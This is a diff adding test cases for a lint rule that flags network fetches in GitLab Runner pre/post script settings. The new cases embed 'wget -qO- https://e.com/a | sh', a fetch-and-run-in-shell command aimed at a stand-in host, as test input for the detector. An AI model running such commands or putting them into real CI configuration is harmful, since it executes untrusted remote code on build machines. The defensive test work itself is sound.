@@ -4,6 +4,8 @@ import { describeRule } from "../describe-rule.ts";
 
 const runner = (...lines: string[]) =>
   object("v1", "ConfigMap", { data: { "config.toml": ["[[runners]]", ...lines].join("\n") } });
+/** GitLab Runner docs, advanced configuration, `[[runners]]`; those around the clone are older words. */
+const SCRIPTS = ["get_sources", "build", "clone"].flatMap((name) => [`pre_${name}_script`, `post_${name}_script`]);
 const AT = 'data["config.toml"] » runners[0].';
 
 describeRule(runnerScriptsPinned, {
@@ -20,6 +22,12 @@ describeRule(runnerScriptsPinned, {
       at: [`${AT}pre_build_script`],
       says: "found=curl",
     },
+    ...Object.fromEntries(
+      SCRIPTS.map((key) => [
+        `what ${key} fetches`,
+        { stack: runner(`${key} = 'wget -qO- https://e.com/a | sh'`), at: [`${AT}${key}`], says: "found=wget;" },
+      ]),
+    ),
     "before and after, by wget": {
       stack: runner("post_build_script = 'wget -qO- http://e.com/a'", "PRE_GET_SOURCES_SCRIPT = 'wget http://e.com/b'"),
       at: [`${AT}pre_get_sources_script`, `${AT}post_build_script`],
